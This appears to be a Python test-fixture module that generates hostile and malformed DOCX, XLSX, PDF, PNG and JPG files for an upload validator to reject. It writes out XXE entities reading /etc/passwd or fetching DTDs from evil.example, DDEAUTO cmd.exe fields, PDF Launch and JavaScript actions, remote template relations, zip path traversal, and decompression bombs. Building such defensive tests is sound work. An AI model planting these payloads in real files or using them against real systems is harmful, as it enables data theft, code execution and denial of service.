"""More than two hundred files that must be refused, by what is wrong with them. Each is (name, a function that makes it)."""

import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from tests.evidence.files import (
    DOCX_MAIN,
    HEAD,
    OFFICE_TYPE,
    OLE,
    XLSX_MAIN,
    chunk,
    docx,
    docx_parts,
    header,
    jpeg,
    object_stream,
    pdf,
    png,
    png_of,
    relation,
    relations,
    stream,
    types,
    word_body,
    xlsx,
    xlsx_parts,
    zipped,
)

Bad = dict[str, tuple[str, Callable[[], bytes]]]

NAMES = {"jpg": "a.jpg", "png": "a.png", "pdf": "a.pdf", "docx": "a.docx", "xlsx": "a.xlsx"}
GOOD = {"jpg": jpeg, "png": png, "pdf": pdf, "docx": docx, "xlsx": xlsx}
MEGABYTE = 1024 * 1024

# The antivirus industry's test text, put together so that this file is not taken for one.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def archive() -> bytes:
    return zipped({"a.txt": "x"})


OTHERS: dict[str, Callable[[], bytes]] = {
    "zip": archive,
    "ole": lambda: OLE,
    "rtf": lambda: b"{\\rtf1 x}",
    "program": lambda: b"MZ" + bytes(600),
    "script": lambda: b"#!/bin/sh\necho",
    "page": lambda: b"<html><script>alert(1)</script></html>",
    "drawing": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "gif": lambda: b"GIF89a" + bytes(40),
    "rar": lambda: b"Rar!\x1a\x07\x00" + bytes(40),
    "gzip": lambda: b"\x1f\x8b\x08" + bytes(40),
    "eicar": lambda: EICAR,
    "nothing": lambda: b"",
    "noise": lambda: os.urandom(4096),
}


def disguised() -> Bad:
    """Another content than the name says, and names nobody accepts."""
    found = {
        f"{other} as {kind}": (NAMES[kind], make)
        for kind in NAMES
        for other, make in {**OTHERS, **GOOD}.items()
        if other != kind
    }
    extensions = "exe docm xlsm dotm xltm xlsb doc xls rtf ppt pptx pptm svg html gif bmp webp heic zip rar 7z ofd wps et txt csv js"
    found |= {f"name .{extension}": (f"a.{extension}", docx) for extension in extensions.split()}
    for name in ("docx", "", "a.", "a.docx.exe", "a.pdf ", "a.docx\n", "a.docx/", "a.ｄｏｃｘ"):
        found[f"name {name!r}"] = (name, docx)
    return found


def cut() -> Bad:
    """Incomplete, with something before, in between or behind."""
    found = {}
    for kind, make in GOOD.items():
        whole = make()
        for share in (0.1, 0.5, 0.9):
            found[f"{kind} cut at {share}"] = (
                NAMES[kind],
                lambda whole=whole, share=share: whole[: int(len(whole) * share)],
            )
        found[f"{kind} one short"] = (NAMES[kind], lambda whole=whole: whole.rstrip()[:-1])
        for other in ("zip", "page", "program"):
            found[f"{kind} and {other}"] = (NAMES[kind], lambda whole=whole, other=other: whole + OTHERS[other]())
            found[f"{other} and {kind}"] = (NAMES[kind], lambda whole=whole, other=other: OTHERS[other]() + whole)
        found[f"{kind} too large"] = (NAMES[kind], lambda whole=whole: whole + bytes(10 * MEGABYTE))
    return found


def part(name: str, content: str | bytes = "x", kind: str = "docx") -> tuple[str, Callable[[], bytes]]:
    make = docx if kind == "docx" else xlsx
    return NAMES[kind], lambda: make(parts={name: content})


def related(kind: str, target: str, *, external: bool = False, book: bool = False) -> tuple[str, Callable[[], bytes]]:
    text = relations(relation(kind, target, external=external))
    place = "xl/worksheets/_rels/sheet1.xml.rels" if book else "word/_rels/document.xml.rels"
    return part(place, text, "xlsx" if book else "docx")


def macros() -> Bad:
    vba = "application/vnd.ms-office.vbaProject"
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    sheet = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    template = f"{OFFICE_TYPE}.wordprocessingml.template.main+xml"
    slides = f"{OFFICE_TYPE}.presentationml.presentation.main+xml"
    extension = '<Default Extension="bin" ContentType="{}"/>'
    return {
        "vba": part("word/vbaProject.bin", OLE),
        "vba in a book": part("xl/vbaProject.bin", OLE, "xlsx"),
        "vba in capitals": part("word/VBAPROJECT.BIN", b"x"),
        "vba elsewhere": part("any/vbaProject.bin", b"x"),
        "vba renamed": part("word/media/image1.png", OLE),
        "vba data": part("word/vbaData.xml", "<a/>"),
        "vba signature": part("word/vbaProjectSignature.bin", b"x"),
        "macro sheet": part("xl/macrosheets/sheet1.xml", "<a/>", "xlsx"),
        "dialog sheet": part("xl/dialogsheets/sheet1.xml", "<a/>", "xlsx"),
        "activex": part("word/activeX/activeX1.xml", "<a/>"),
        "activex binary": part("word/activeX/activeX1.bin", b"x"),
        "control": part("xl/ctrlProps/ctrlProp1.xml", "<a/>", "xlsx"),
        "ribbon": part("customUI/customUI.xml", "<a/>"),
        "toolbars": part("word/attachedToolbars.bin", b"x"),
        "unknown binary": part("word/data.bin", b"x"),
        "printer in disguise": part("xl/printerSettings/printerSettings1.bin", OLE, "xlsx"),
        "type docm": ("a.docx", lambda: docx(types=types(enabled))),
        "type xlsm": ("a.xlsx", lambda: xlsx(types=types(sheet, "/xl/workbook.xml"))),
        "type dotx": ("a.docx", lambda: docx(types=types(template))),
        "type slides": ("a.docx", lambda: docx(types=types(slides))),
        "type of a book": ("a.docx", lambda: docx(types=types(XLSX_MAIN))),
        "type of a document": ("a.xlsx", lambda: xlsx(types=types(DOCX_MAIN, "/xl/workbook.xml"))),
        "type vba": ("a.docx", lambda: docx(types=types(more=extension.format(vba)))),
        "type macro sheet": ("a.docx", lambda: docx(types=types(more=extension.format("application/vnd.ms-excel.macrosheet+xml")))),
        "type activex": ("a.docx", lambda: docx(types=types(more=extension.format("application/vnd.ms-office.activeX+xml")))),
        "type of nothing": ("a.docx", lambda: docx(types=types(part="/word/other.xml"))),
        "relation vba": related("vbaProject", "media/a.png"),
        "relation control": related("control", "media/a.xml"),
        "relation macro sheet": related("xlMacrosheet", "a.xml", book=True),
        "relation ribbon": related("ui/extensibility", "a.xml"),
    }  # fmt: skip


def embedded() -> Bad:
    inner = {"program": b"MZ" + bytes(99), "zip": archive(), "ole": OLE, "pdf": pdf(), "rar": b"Rar!\x1a\x07", "docx": docx(),
             "gzip": b"\x1f\x8b\x08", "7z": b"7z\xbc\xaf'\x1c", "rtf": b"{\\rtf1", "script": b"#!/bin/sh", "elf": b"\x7fELF"}  # fmt: skip
    found = {f"{name} as a picture": part("word/media/image1.png", content) for name, content in inner.items()}
    found |= {f"{name} as a font": part("word/fonts/font1.odttf", content) for name, content in inner.items()}
    found |= {
        "sheet in a chart": part("word/embeddings/Microsoft_Excel_Sheet1.xlsx", xlsx()),
        "ole object": part("word/embeddings/oleObject1.bin", OLE),
        "ole in a book": part("xl/embeddings/oleObject1.bin", OLE, "xlsx"),
        "alternative text": part("word/afchunk.mht", "x"),
        "page inside": part("word/page.html", "<script>"),
        "program inside": part("word/a.exe", "x"),
        "drawing inside": part("word/media/a.svg", "<svg/>"),
        "without extension": part("word/data", "x"),
        "relation ole": related("oleObject", "media/a.png"),
        "relation package": related("package", "media/a.png"),
        "relation chunk": related("aFChunk", "a.xml"),
    }
    return found


def outside() -> Bad:
    places = (
        "http://evil.example/a",
        "https://evil.example/a",
        "file:///etc/passwd",
        "\\\\evil\\share\\a",
        "//evil/a",
        "ftp://e/a",
    )
    kinds = ("attachedTemplate", "image", "subDocument", "frame")
    found = {f"{kind} {place}": related(kind, place, external=True) for kind in kinds for place in places}
    found |= {f"not marked {place}": related("image", place) for place in places}
    found |= {
        "book image": related("image", "http://evil.example/a.png", external=True, book=True),
        "book links": part("xl/externalLinks/externalLink1.xml", "<a/>", "xlsx"),
        "book connections": part("xl/connections.xml", "<a/>", "xlsx"),
        "book query": part("xl/queryTables/queryTable1.xml", "<a/>", "xlsx"),
        "template inside": related("attachedTemplate", "template.xml"),
        "relation of links": related("externalLink", "a.xml", book=True),
        "relation of connections": related("connections", "a.xml", book=True),
        "capitals": part("word/_rels/document.xml.rels", relations(relation("image", "a", external=True)).replace("External", "EXTERNAL")),
        "settings": part("word/_rels/settings.xml.rels", relations(relation("attachedTemplate", "http://evil.example/a.dotm", external=True))),
        "web extension": part("word/webextensions/webextension1.xml", "<a/>"),
        "dde": ("a.docx", lambda: docx(body=word_body("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))),
        "included": ("a.docx", lambda: docx(body=word_body("INCLUDETEXT http://evil.example/a"))),
        "web service": part("xl/worksheets/sheet2.xml", "<a><f>_xlfn.WEBSERVICE(A1)</f></a>", "xlsx"),
        "dde across pieces": ("a.docx", lambda: docx(body=word_body("x" * 65_390 + "DDEAUTO" * 40))),
    }  # fmt: skip
    return found


ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DECLARATIONS = {
    "entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/a.dtd"> %x;]>',
    "external": '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">',
    "public": '<!DOCTYPE a PUBLIC "-//X//Y" "http://evil.example/a.dtd">',
    "laughs": f'<!DOCTYPE a [<!ENTITY l0 "lol">{ENTITIES}]>',
    "plain": "<!DOCTYPE a>",
}
DECLARED_IN = {
    "docx": (
        "word/document.xml",
        "word/styles.xml",
        "customXml/item1.xml",
        "[Content_Types].xml",
        "_rels/.rels",
        "word/a.vml",
    ),
    "xlsx": ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"),
}


def declared() -> Bad:
    found = {}
    for kind, places in DECLARED_IN.items():
        parts = docx_parts() if kind == "docx" else xlsx_parts()
        for place in places:
            for name, declaration in DECLARATIONS.items():
                body = parts.get(place, f"{HEAD}<a>&x;</a>").replace(HEAD, HEAD + declaration)
                found[f"{name} in {place}"] = part(place, body, kind)
    wide = docx_parts()["word/document.xml"].replace("UTF-8", "UTF-16").replace("\n", "<!DOCTYPE a []>", 1)
    found["entity in utf-16"] = part("word/document.xml", wide.encode("utf-16"))
    found["far behind"] = part("word/styles.xml", f"{HEAD}<!--{'x' * 70_000}--><!DOCTYPE a []><a/>")
    found["no markup"] = part("word/document.xml", "hello")
    return found


def lying(data: bytes, **sizes: int) -> bytes:
    """The archive with other sizes in both of the first entry's headers."""
    changed = bytearray(data)
    central = data.index(b"PK\x01\x02")
    for name, places in (("packed", (18, central + 20)), ("unpacked", (22, central + 24))):
        for place in places if name in sizes else ():
            struct.pack_into("<I", changed, place, sizes[name])
    return bytes(changed)


def flagged(**attributes):
    return lambda info: [setattr(info, name, value) for name, value in attributes.items()]


def encrypted() -> bytes:
    """The flag alone, in both headers."""
    data = bytearray(docx())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sign)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(sign, at + 4)
    return bytes(data)


def hidden_gap() -> bytes:
    """A program between the last entry and the directory."""
    data = docx()
    central = data.index(b"PK\x01\x02")
    moved = bytearray(data[:central] + b"MZ" + bytes(98) + data[central:])
    struct.pack_into("<I", moved, len(moved) - 6, central + 100)
    return bytes(moved)


def overlapping() -> bytes:
    """Every entry of the directory leads to the same data."""
    data = bytearray(zipped([*docx_parts().items(), ("word/a.xml", "<a/>"), ("word/b.xml", "<a/>")]))
    first = data.index(b"PK\x01\x02")
    last = data.rindex(b"PK\x01\x02")
    data[last + 42 : last + 46] = data[first + 42 : first + 46]
    return bytes(data)


def crooked() -> Bad:
    """Archives that are not put together as office programs do."""
    steps = (
        "../a.xml",
        "word/../../a.xml",
        "/etc/a.xml",
        "C:/a.xml",
        "word\\a.xml",
        "word//a.xml",
        "./a.xml",
        "word/./a.xml",
    )
    found = {f"path {step}": part(step, "<a/>") for step in steps}
    several = [("word/document.xml", word_body("1")), *docx_parts().items()]
    cases = {name: docx_parts(parts={left_out: None}) for name, left_out in
             (("no types", "[Content_Types].xml"), ("no relations", "_rels/.rels"))}  # fmt: skip
    found |= {name: ("a.docx", lambda parts=parts: zipped(parts)) for name, parts in cases.items()}
    return found | {
        "encrypted entries": ("a.docx", encrypted),
        "same name twice": ("a.docx", lambda: quietly(several)),
        "same name in capitals": part("WORD/document.xml", "<a/>"),
        "symbolic link": ("a.docx", lambda: zipped(docx_parts(), change=flagged(create_system=3, external_attr=0o120777 << 16))),
        "bzip2": ("a.docx", lambda: zipped(docx_parts(), method=zipfile.ZIP_BZIP2)),
        "lzma": ("a.docx", lambda: zipped(docx_parts(), method=zipfile.ZIP_LZMA)),
        "gap": ("a.docx", hidden_gap),
        "overlap": ("a.docx", overlapping),
        "comment": ("a.docx", lambda: commented(docx())),
        "says less": ("a.docx", lambda: lying(docx(), unpacked=10)),
        "says more": ("a.docx", lambda: lying(docx(), unpacked=10_000)),
        "packed less": ("a.docx", lambda: lying(docx(), packed=10)),
        "no main part": ("a.docx", lambda: docx(parts={"_rels/.rels": relations()})),
        "relations without end": part("word/_rels/document.xml.rels", HEAD + "<a>"),
        "types are noise": part("[Content_Types].xml", os.urandom(99)),
        "empty archive": ("a.docx", lambda: zipped({})),
        "only a directory": ("a.docx", lambda: zipped({"word/": ""})),
    }  # fmt: skip


def commented(data: bytes) -> bytes:
    return data[:-2] + struct.pack("<H", 5) + b"hello"


def quietly(rows) -> bytes:
    """Two entries of one name, without the library's warning."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for number, (name, content) in enumerate(rows):
            made.writestr(f"{number:0{len(name)}d}"[: len(name)] if number == 0 else name, content)
    return out.getvalue().replace(b"0" * len(rows[0][0]), rows[0][0].encode())


def active_pdfs() -> Bad:
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    actions = {
        "script": script,
        "script escaped": b"<< /S /Java#53cript /JS (x) >>",
        "script all escaped": b"<< /S /#4A#61#76#61#53#63#72#69#70#74 /JS (x) >>",
        "script tree": b"<< /Names << /JavaScript 5 0 R >> >>",
        "launch": b"<< /S /Launch /F (cmd.exe) >>",
        "launch escaped": b"<< /S /L#61unch /F (cmd.exe) >>",
        "attachment": b"<< /Names << /EmbeddedFiles 5 0 R >> >>",
        "attached stream": stream(b"x", b"/Type /EmbeddedFile "),
        "media": b"<< /Subtype /RichMedia >>",
        "rendition": b"<< /S /Rendition /JS (x) >>",
        "form": b"<< /AcroForm << /XFA 5 0 R >> >>",
        "submit": b"<< /S /SubmitForm /F (http://evil.example) >>",
        "import": b"<< /S /ImportData /F (a) >>",
        "goes elsewhere": b"<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>",
        "goes into": b"<< /S /GoToE /F (a) >>",
    }
    found = {f"pdf {name}": lambda body=body: pdf([body]) for name, body in actions.items()}
    found |= {
        f"pdf objects {name}": lambda body=body: pdf([object_stream(b"4 0 " + body)]) for name, body in actions.items()
    }
    found |= {
        f"pdf late {name}": lambda body=body: pdf([b"<< /A (%b) >>" % bytes(3000), body])
        for name, body in actions.items()
    }
    hexed = zlib.compress(b"4 0 " + script).hex().encode() + b">"
    found |= {
        "pdf encrypted": lambda: pdf(trailer=b"/Encrypt 4 0 R"),
        "pdf encrypted escaped": lambda: pdf(trailer=b"/Encr#79pt 4 0 R"),
        "pdf objects in hex": lambda: pdf(
            [object_stream(hexed, b"/Filter [/ASCIIHexDecode /FlateDecode]", packed=False)]
        ),
        "pdf objects indirect": lambda: pdf([object_stream(zlib.compress(script), b"/Filter 9 0 R", packed=False)]),
        "pdf objects predicted": lambda: pdf([object_stream(script, b"/DecodeParms << /Predictor 12 >>")]),
        "pdf objects escaped": lambda: pdf([stream(b"4 0 " + script, b"/Type /Obj#53tm ")]),
        "pdf objects filter escaped": lambda: pdf(
            [object_stream(zlib.compress(script), b"/F#69lter /FlateDecode", packed=False)]
        ),
        "pdf objects plain": lambda: pdf([object_stream(b"4 0 " + script, packed=False)]),
        "pdf objects untyped": lambda: pdf([stream(b"4 0 " + script, b"/N 1 /First 4 ")]),
        "pdf objects behind a comment": lambda: pdf(
            [object_stream(script).replace(b"\nstream", b"%x\nstream"), stream(b"x")]
        ),
        "pdf objects broken": lambda: pdf([object_stream(b"x", b"/Filter /FlateDecode", packed=False)]),
        "pdf objects without stream": lambda: pdf([b"<< /Type /ObjStm >>"]),
        "pdf long dictionary": lambda: pdf([object_stream(script, b"/A (%b) " % bytes(5000))]),
        "pdf no header": lambda: pdf()[9:],
        "pdf strange version": lambda: pdf(version=b"9.9"),
        "pdf no trailer": lambda: pdf().partition(b"startxref")[0],
        "pdf no end": lambda: pdf().replace(b"%%EOF", b""),
        "pdf header only": lambda: b"%PDF-1.4\nstartxref\n0\n%%EOF\n",
        "pdf text behind": lambda: pdf() + b"hello" * 20,
        "pdf zip in a comment": lambda: pdf()[:-1] + b"\n" + archive()[:-2] + b"\x30\x00" + pdf()[-48:],
    }
    return {name: ("a.pdf", make) for name, make in found.items()}


def idat(size: int) -> bytes:
    return chunk(b"IDAT", zlib.compress(bytes(size)))


def frame(data: bytes, width: int, height: int) -> bytes:
    """The picture with other sizes in its frame header."""
    at = data.index(b"\xff\xc0")
    return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]


def broken_pictures() -> Bad:
    end = chunk(b"IEND")
    pngs = {
        "no header": lambda: png_of(idat(9), end),
        "no pixels": lambda: png_of(header(3, 3), end),
        "no end": lambda: png_of(header(3, 3), idat(12)),
        "no width": lambda: png_of(header(0, 3), idat(0), end),
        "depth": lambda: png_of(header(3, 3, 3), idat(12), end),
        "colour": lambda: png_of(header(3, 3, 8, 5), idat(12), end),
        "method": lambda: png_of(header(3, 3, 8, 0, 1, 0, 0), idat(12), end),
        "interlacing": lambda: png_of(header(3, 3, 8, 0, 0, 0, 2), idat(12), end),
        "too few": lambda: png_of(header(3, 3), idat(11), end),
        "too many": lambda: png_of(header(3, 3), idat(13), end),
        "checksum": lambda: png_of(header(3, 3), chunk(b"IDAT", zlib.compress(bytes(12)), crc=1), end),
        "not packed": lambda: png_of(header(3, 3), chunk(b"IDAT", bytes(12)), end),
        "behind the pixels": lambda: png_of(header(3, 3), chunk(b"IDAT", zlib.compress(bytes(12)) + b"MZ"), end),
        "huge": lambda: png_of(header(100_000, 100_000), idat(12), end),
        "wide": lambda: png_of(header(2**31 - 1, 1), idat(12), end),
        "short header": lambda: png_of(chunk(b"IHDR", bytes(12)), idat(12), end),
        "text behind": lambda: png() + b"hello",
        "second": lambda: png() + png(),
        "length": lambda: png_of(header(3, 3), struct.pack(">I4s", 2**31, b"IDAT")),
        "chunks": lambda: png_of(header(3, 3), chunk(b"tEXt") * 30_000, idat(12), end),
    }
    jpgs = {
        "huge": lambda: frame(jpeg(), 65_000, 65_000),
        "no width": lambda: frame(jpeg(), 0, 30),
        "lossless": lambda: jpeg().replace(b"\xff\xc0", b"\xff\xc3", 1),
        "no frame": lambda: jpeg().replace(b"\xff\xc0", b"\xff\xe5", 1),
        "two frames": lambda: jpeg().replace(b"\xff\xda", jpeg()[jpeg().index(b"\xff\xc0"):][:19] + b"\xff\xda", 1),
        "start and end": lambda: b"\xff\xd8\xff\xd9",
        "segments": lambda: b"\xff\xd8" + b"\xff\xe0\x00\x02" * 100_000,
        "segment length": lambda: b"\xff\xd8\xff\xe0\x00\x01" + jpeg(),
        "scans": lambda: jpeg(progressive=True)[:-2] + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" * 40 + b"\xff\xd9",
        "no tables": lambda: jpeg().replace(b"\xff\xdb", b"\xff\xe5"),
        "page behind": lambda: jpeg() + b"<script>",
        "zip behind two": lambda: jpeg() + jpeg() + archive(),
        "fill": lambda: b"\xff\xd8" + b"\xff" * MEGABYTE,
    }  # fmt: skip
    found = {f"png {name}": ("a.png", make) for name, make in pngs.items()}
    return found | {f"jpg {name}": ("a.jpg", make) for name, make in jpgs.items()}


def bombs() -> Bad:
    """What takes long, or much memory, when it is unpacked or read without care."""
    huge = 300 * MEGABYTE
    rels = "word/_rels/document.xml.rels"
    many = relations(*(relation("hyperlink", f"https://a/{n}", external=True, number=n) for n in range(30_000)))
    half = {f"word/a{number}.xml": "<a>" + " " * (15 * MEGABYTE) for number in range(8)}
    found = {
        "one huge part": ("a.docx", lambda: packed_zeros("word/document.xml", huge)),
        "huge and stored inside": ("a.xlsx", lambda: packed_zeros("xl/worksheets/sheet1.xml", huge)),
        "many parts": ("a.docx", lambda: docx(parts=half)),
        "entries": ("a.docx", lambda: zipped({**docx_parts(), **{f"word/{n}.xml": "<a/>" for n in range(1001)}})),
        "entries and entries": ("a.docx", lambda: zipped({f"word/{n}.xml": "" for n in range(60_000)}, method=0)),
        "lying size": ("a.docx", lambda: lying(packed_zeros("word/document.xml", huge), unpacked=1000)),
        "relations": part(rels, many),
        "deep": part("word/document.xml", "<a>" * 2_000_000),
        "deep relations": part(rels, "<a>" * 300_000),
        "one long tag": part("word/document.xml", "<a " + "x='y' " * 300_000),
        "one long comment": part("word/document.xml", "<!--" + "x" * 9_000_000),
        "attributes": part(rels, "<a " + " ".join(f"a{n}='1'" for n in range(60_000)) + "/>"),
        "pdf objects": ("a.pdf", lambda: pdf([object_stream(bytes(200 * MEGABYTE))])),
        "pdf object streams": ("a.pdf", lambda: pdf([object_stream(bytes(900_000)) for _ in range(60)])),
        "pdf names": ("a.pdf", lambda: pdf([b"/#41" * 2_400_000])),
        "pdf slashes": ("a.pdf", lambda: pdf([b"/" * 9_900_000, b"/Encrypt"])),
        "pdf object names": ("a.pdf", lambda: pdf([b"/ObjStm" * 1_400_000])),
        "pdf ends": ("a.pdf", lambda: pdf([b"PK\x05\x06" * 2_400_000]) + b"x"),
        "pdf trailers": ("a.pdf", lambda: b"%PDF-1.4\n" + b"startxref\n1\n" * 700_000),
        "png": ("a.png", lambda: png_of(header(7000, 7000, 8, 0), idat(40_000_000), chunk(b"IEND"))),
        "png colours": ("a.png", lambda: png_of(header(60_000, 60_000, 16, 6), idat(50_000_000), chunk(b"IEND"))),
        "png many chunks": ("a.png", lambda: png_of(header(3, 3), chunk(b"IDAT") * 800_000)),
        "jpg stuffing": ("a.jpg", lambda: jpeg()[:-2] + b"\xff\x00" * 4_000_000),
        "jpg scans": ("a.jpg", lambda: b"\xff\xd8" + b"\xff\xda\x00\x02" * 2_000_000),
    }
    return {f"bomb {name}": bad for name, bad in found.items()}


def packed_zeros(name: str, size: int) -> bytes:
    """A small document whose first part is nothing but spaces, packed in pieces."""
    parts = docx_parts() if name.startswith("word") else xlsx_parts()
    parts.pop(name)
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with made.open(info, "w") as entry:
            for _ in range(size // MEGABYTE):
                entry.write(b" " * MEGABYTE)
        for other, content in parts.items():
            made.writestr(other, content)
    return out.getvalue()


def bad_files() -> Bad:
    groups = (disguised, cut, macros, embedded, outside, declared, crooked, active_pdfs, broken_pictures)
    return {name: bad for make in groups for name, bad in make().items()}
